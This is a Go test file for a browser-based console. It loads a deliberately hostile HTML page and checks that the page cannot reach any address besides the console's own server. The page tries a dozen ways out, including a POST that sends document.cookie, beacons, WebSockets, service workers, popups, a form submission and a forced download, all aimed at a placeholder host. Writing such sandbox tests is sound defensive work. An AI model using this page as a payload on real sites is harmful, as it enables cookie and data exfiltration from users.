package console_test

import (
	"context"
	"crypto/x509"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"mozybot/provision"
)

// hostile is a page that does all it can to reach another address, and then tells its own server.
const hostile = `<!doctype html><html><head>
<link rel="stylesheet" href="ELSE/css"><link rel="prefetch" href="ELSE/prefetch"><link rel="preconnect" href="ELSE">
<script src="ELSE/script"></script></head><body>
<img src="ELSE/img"><iframe src="ELSE/frame"></iframe><video src="ELSE/video"></video><object data="ELSE/object"></object>
<form id="f" action="ELSE/form" method="post" target="there"><input name="secret" value="1"></form>
<a id="d" href="/file" download="take.txt">take</a>
<script>
const done = [];
const tries = {
  fetch: () => fetch("ELSE/fetch", {mode: "no-cors"}),
  post: () => fetch("ELSE/post", {method: "POST", mode: "no-cors", body: document.cookie}),
  beacon: () => navigator.sendBeacon("ELSE/beacon", "x"),
  redirect: () => fetch("/away", {mode: "no-cors"}),
  socket: () => new Promise((ok, no) => { const s = new WebSocket("ELSE/socket".replace("http", "ws")); s.onclose = no; s.onopen = ok; }),
  stream: () => new Promise((ok, no) => { const s = new EventSource("ELSE/stream"); s.onerror = no; s.onopen = ok; }),
  worker: () => new Promise((ok, no) => { const w = new Worker("/worker.js"); w.onmessage = ok; w.onerror = no; }),
  service: () => navigator.serviceWorker.register("/service.js").then(r => navigator.serviceWorker.ready),
  open: () => window.open("ELSE/window"),
  opened: () => { const w = window.open("/popup"); },
  form: () => document.getElementById("f").submit(),
  download: () => document.getElementById("d").click(),
};
(async () => {
  await Promise.all(Object.keys(tries).map(async name => {
    try { await Promise.race([tries[name](), new Promise(ok => setTimeout(ok, 700))]); done.push(name + " went"); } catch (e) { done.push(name + " failed"); }
  }));
  await fetch("/tried?" + encodeURIComponent(done.join(",")));
  location = "ELSE/location";
})();
</script></body></html>`

// A console that somebody has taken over must not get at anything else from here: not the machine's own services, not the
// network's. The other listener is on this machine, which is what it would go for first.
func TestThePageReachesNothingButTheConsole(t *testing.T) {
	needBrowser(t)
	t.Parallel()
	other, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { other.Close() })
	var reached atomic.Int32
	go func() {
		for {
			conn, err := other.Accept()
			if err != nil {
				return // closed
			}
			reached.Add(1)
			conn.Close()
		}
	}()
	at := other.Addr().String()
	for name, elsewhere := range map[string]string{
		"by its number": "http://" + at,
		"by its name":   strings.Replace("http://"+at, "127.0.0.1", "localhost", 1),
		"by our relay":  "https://" + at,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tried := make(chan string, 10)
			page := strings.ReplaceAll(hostile, "ELSE", elsewhere)
			server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/tried":
					tried <- r.URL.RawQuery
				case "/away":
					http.Redirect(w, r, elsewhere+"/redirected", http.StatusFound)
				case "/popup":
					fmt.Fprintf(w, "<script>location = %q; fetch(%q, {mode: 'no-cors'})</script>", elsewhere+"/popped", elsewhere+"/popup")
				case "/worker.js", "/service.js":
					w.Header().Set("Content-Type", "text/javascript")
					fmt.Fprintf(w, "fetch(%q, {mode: 'no-cors'}).finally(() => postMessage('done'))", elsewhere+r.URL.Path)
				case "/file":
					w.Header().Set("Content-Disposition", "attachment")
					fmt.Fprint(w, "taken")
				default:
					w.Header().Set("Content-Type", "text/html")
					fmt.Fprint(w, page)
				}
			}))
			defer server.Close()
			var roots *x509.CertPool
			if strings.HasPrefix(elsewhere, "https") {
				server.StartTLS()
				roots = x509.NewCertPool()
				roots.AddCert(server.Certificate())
			} else {
				server.Start()
			}
			c := consoleAt(t, server.URL, roots)
			ctx, enough := context.WithCancel(t.Context())
			login := make(chan error, 1)
			go func() { login <- c.Login(ctx) }()
			select {
			case what := <-tried:
				t.Log("the page tried", what)
				if strings.Count(what, "%2C") != 11 {
					t.Errorf("it did not try everything: %s", what)
				}
				enough()
			case err := <-login:
				enough()
				t.Fatal("the page did not get through with its tries:", err)
			}
			if err := <-login; err == nil {
				t.Error("logged in to a page of nothing")
			}
			c.AnswerWithin(3 * time.Second)
			if err := c.Login(t.Context()); provision.CodeOf(err) == "" {
				t.Error("logged in to a page of nothing")
			}
			if n := reached.Load(); n != 0 {
				t.Errorf("%d connections came to the other address", n)
			}
			if found, _ := filepath.Glob(filepath.Join(os.TempDir(), "mozybot-chromium-*", "*", "take.txt")); len(found) > 0 {
				t.Errorf("a file was downloaded: %v", found)
			}
		})
	}
}
